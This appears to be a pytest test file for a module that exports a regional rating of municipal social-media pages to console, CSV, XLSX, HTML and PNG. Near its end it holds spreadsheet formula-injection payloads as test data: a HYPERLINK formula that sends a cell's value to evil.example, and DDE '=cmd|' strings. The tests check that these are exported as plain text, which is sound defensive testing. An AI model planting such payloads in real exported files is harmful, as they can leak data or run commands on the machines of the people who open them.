"""Rendering of a rating table (no database): console, CSV, XLSX, HTML, PNG in the published style."""

from __future__ import annotations

import csv
import io
import re
import warnings
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rich.console import Console

from gospubliki.reports import rating
from gospubliki.reports.rating import CriterionColumn, RatingRow, RatingTable

CRITERIA = (
    CriterionColumn(
        "vk_page", "Есть страница во ВКонтакте", "computed", "vk_page_active", Decimal(1), Decimal(20)
    ),
    CriterionColumn(
        "ok_page", "Есть страница в Одноклассниках", "computed", "ok_page_active", Decimal(1), Decimal(6)
    ),
    CriterionColumn("widgets", "Виджеты ПОС", "manual", None, None, Decimal(4)),
)


def row(place, mid, name, score, percent, dynamics, pp, missing=(), points=None):
    return RatingRow(
        place=place,
        municipality_id=mid,
        municipality_name=name,
        score=Decimal(score),
        max_score=Decimal(30),
        percent=percent,
        dynamics=dynamics,
        dynamics_pp=pp,
        is_new=dynamics == "новый",
        missing_criteria=tuple(missing),
        points=points or {},
    )


def sample_table(rows=None) -> RatingTable:
    return RatingTable(
        region_code="43",
        region_name="Кировская область",
        methodology_code="example_30",
        methodology_name="Пример методики: страницы ОМСУ, 30 баллов",
        is_example=True,
        period_type="week",
        period_id="2026-W47",
        period_start=date(2026, 11, 16),
        period_end_date=date(2026, 11, 22),
        previous_period_id="2026-W46",
        max_score=Decimal(30),
        criteria=CRITERIA,
        rows=tuple(
            rows
            or (
                row(
                    1,
                    "43-a",
                    "Кумёнский м.о.",
                    26,
                    87,
                    "↑ 7%",
                    7,
                    ["ok_page"],
                    {"vk_page": 20, "ok_page": 0, "widgets": 6},
                ),
                row(
                    2,
                    "43-b",
                    "Кирово-Чепецк г.о.",
                    24,
                    80,
                    "↓ 3%",
                    -3,
                    ["ok_page"],
                    {"vk_page": 20, "ok_page": 0, "widgets": 4},
                ),
                row(
                    2,
                    "43-c",
                    "Котельничский м.р.",
                    24,
                    80,
                    "-",
                    0,
                    ["ok_page", "widgets"],
                    {"vk_page": 20, "ok_page": 0},
                ),
                row(
                    3,
                    "43-d",
                    "ЗАТО Первомайский <b>",
                    Decimal("22.5"),
                    75,
                    "новый",
                    None,
                    ["ok_page"],
                    {"vk_page": 20},
                ),
            )
        ),
    )


def test_dynamics_trend_and_number_format():
    table = sample_table()
    assert [r.trend for r in table.rows] == ["up", "down", "same", "new"]
    assert rating._num(Decimal("22.50")) == "22,5" and rating._num(Decimal("24.00")) == "24"
    assert table.period_label == "неделя 2026-W47 (16.11–22.11.2026)"
    assert table.file_stem == "rating_example_30_43_2026-W47"
    # ok_page lacks data for every row: said once; widgets only for one row: marked with *
    assert table.common_missing == ("ok_page",)
    assert [table.own_missing(r) for r in table.rows] == [(), (), ("widgets",), ()]
    assert "ok_page" in table.missing_note and "*" in table.missing_note
    assert "пример, не официальная методика" in table.methodology_note
    assert "30 баллов" in table.methodology_note


def test_month_period_label_and_missing_note_when_nothing_is_missing():
    base = sample_table()
    monthly = RatingTable(
        **{**base.__dict__, "period_type": "month", "period_id": "2026-02", "period_start": date(2026, 2, 1)},
    )
    assert monthly.period_label == "февраль 2026"
    complete = sample_table([row(1, "43-a", "А г.о.", 30, 100, "новый", None)])
    assert complete.missing_note == "" and complete.common_missing == ()


def test_console_table_has_the_published_headers_and_coloured_dynamics():
    table = rating.render_console(sample_table())
    assert [c.header for c in table.columns] == ["Место", "Муниципалитет", "Балл", "%", "Динамика"]
    console = Console(record=True, width=120, color_system="truecolor", file=io.StringIO())
    console.print(table)
    text = console.export_text(clear=False)
    assert re.search(r"1\s*│\s*Кумёнский м\.о\.\s*│\s*26\s*│\s*87%\s*│\s*↑ 7%", text)
    assert re.search(r"2\s*│\s*Котельничский м\.р\. \*\s*│\s*24\s*│\s*80%\s*│\s*-", text)
    assert "22,5" in text and "новый" in text
    styles = console.export_html(inline_styles=True)
    assert re.search(r'color: #008000[^"]*">\s*↑ 7%', styles)  # green up
    assert re.search(r'color: #800000[^"]*">\s*↓ 3%', styles)  # red down


def test_csv_has_the_published_columns_then_details(tmp_path):
    path = rating.export_csv(sample_table(), tmp_path / "r.csv")
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())  # BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0])[:5] == ["Место", "Муниципалитет", "Балл", "Максимум", "%"]
    assert list(rows[0])[-3:] == ["vk_page", "ok_page", "widgets"]
    assert [(r["Место"], r["Муниципалитет"], r["Балл"], r["%"], r["Динамика"]) for r in rows] == [
        ("1", "Кумёнский м.о.", "26", "87", "↑ 7%"),
        ("2", "Кирово-Чепецк г.о.", "24", "80", "↓ 3%"),
        ("2", "Котельничский м.р.", "24", "80", "-"),
        ("3", "ЗАТО Первомайский <b>", "22.5", "75", "новый"),
    ]
    assert rows[2]["Нет данных по критериям"] == "ok_page, widgets"
    assert rows[2]["widgets"] == "" and rows[0]["widgets"] == "6"
    assert rows[3]["Изменение, п.п."] == "" and rows[1]["Изменение, п.п."] == "-3"


def test_xlsx_is_formatted_with_coloured_arrows(tmp_path):
    path = rating.export_xlsx(sample_table(), tmp_path / "r.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Рейтинг", "Критерии", "Методика"]
    ws = wb["Рейтинг"]
    assert ws["A1"].value == "Рейтинг госпабликов муниципалитетов — Кировская область"
    assert [ws.cell(5, c).value for c in range(1, 6)] == ["Место", "Муниципалитет", "Балл", "%", "Динамика"]
    assert ws.cell(5, 1).fill.fgColor.rgb.endswith("1F3A5F") and ws.cell(5, 1).font.bold
    data = [[ws.cell(r, c).value for c in range(1, 6)] for r in range(6, 10)]
    assert data[0] == [1, "Кумёнский м.о.", 26, 87, "↑ 7%"]
    assert data[2][1] == "Котельничский м.р. *"
    assert data[3][2] == 22.5
    colours = [ws.cell(r, 5).font.color.rgb[-6:] for r in range(6, 10)]
    assert colours == [
        rating.COLORS["up"],
        rating.COLORS["down"],
        rating.COLORS["same"],
        rating.COLORS["new"],
    ]
    assert ws.cell(6, 4).number_format == '0"%"'
    assert ws.freeze_panes == "A6"
    criteria = wb["Критерии"]
    assert criteria.cell(1, 11).value.startswith("vk_page: Есть страница во ВКонтакте (до 20)")
    assert criteria.cell(4, 13).fill.fgColor.rgb.endswith("FFF3E0")  # Котельничский: no widgets score
    methodology = wb["Методика"]
    assert [methodology.cell(r, 3).value for r in (4, 5, 6)] == [
        "вычисляемый",
        "вычисляемый",
        "ручной (эксперт)",
    ]


def test_html_is_self_contained_and_escapes_names(tmp_path):
    path = rating.render_html(sample_table(), tmp_path / "r.html")
    text = path.read_text(encoding="utf-8")
    assert '<meta charset="utf-8">' in text and '<html lang="ru">' in text
    # nothing loaded from elsewhere: no links, scripts, imports, external URLs or images
    assert not re.search(r"<link|<script|@import|url\(|src=|https?://", text)
    assert "ЗАТО Первомайский &lt;b&gt;" in text and "Первомайский <b>" not in text
    assert '<td class="num up">↑ 7%</td>' in text and '<td class="num down">↓ 3%</td>' in text
    assert "".join(f"<th>{h}</th>" for h in rating.HEADERS) in text
    assert text.count("<tr>") == 1 + 4
    assert 'title="нет данных: widgets"' in text


def test_png_renders_cyrillic_and_arrows_without_missing_glyphs(tmp_path):
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        path = rating.render_png(sample_table(), tmp_path / "r.png")
    assert not [w for w in caught if "missing from" in str(w.message)]
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert width == 1200  # 8 in at 150 dpi
    # taller with more rows
    more = sample_table([row(i, f"43-{i}", f"М{i} м.р.", 10, 33, "-", 0) for i in range(1, 41)])
    taller = rating.render_png(more, tmp_path / "r40.png").read_bytes()
    assert int.from_bytes(taller[20:24], "big") > height + 30 * 0.34 * 150


def test_png_check_would_see_a_missing_glyph(tmp_path):
    """The glyph check above can fail: a character DejaVu Sans lacks is reported by matplotlib."""
    table = sample_table([row(1, "43-a", "漢字 м.р.", 10, 33, "-", 0)])
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        rating.render_png(table, tmp_path / "cjk.png")
    assert [w for w in caught if "missing from" in str(w.message)]


def test_write_files_names_and_formats(tmp_path):
    files = rating.write_files(sample_table(), tmp_path / "out")
    assert [f.name for f in files] == [f"rating_example_30_43_2026-W47.{ext}" for ext in rating.FORMATS]
    assert all(f.stat().st_size > 200 for f in files)
    with pytest.raises(KeyError):
        rating.write_files(sample_table(), tmp_path, formats=["pdf"])


INJECTED = ('=HYPERLINK("http://evil.example/?x="&A1,"Кликни")', "+7(8332)64-00-00", "-2+3", "@SUM(A1:A9)")


def injected_table() -> RatingTable:
    return sample_table(
        tuple(
            row(i + 1, f"=cmd|'/c calc'!A{i}", name, 20 - i, 60, "-", None)
            for i, name in enumerate(INJECTED)
        )
    )


def test_names_that_look_like_formulas_reach_the_csv_as_text(tmp_path):
    """Formula injection (OWASP "CSV injection"): a leading apostrophe keeps the text a text."""
    path = rating.export_csv(injected_table(), tmp_path / "r.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [r["Муниципалитет"] for r in rows] == ["'" + name for name in INJECTED]
    assert {r["Код муниципалитета"][:2] for r in rows} == {"'="}
    assert {r["Динамика"] for r in rows} == {"-"}  # a lone dash is no formula and is published as is
    assert [r["Место"] for r in rows] == ["1", "2", "3", "4"]


def test_names_that_look_like_formulas_reach_the_xlsx_as_text(tmp_path):
    import zipfile

    path = rating.export_xlsx(injected_table(), tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 3 and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    wb = load_workbook(path)
    names = [wb["Рейтинг"].cell(r, 2) for r in range(6, 10)]
    assert [c.value for c in names] == list(INJECTED) and {c.data_type for c in names} == {"s"}
    ids = [wb["Критерии"].cell(r, 10) for r in range(2, 6)]
    assert all(c.value.startswith("=cmd|") and c.data_type == "s" for c in ids)
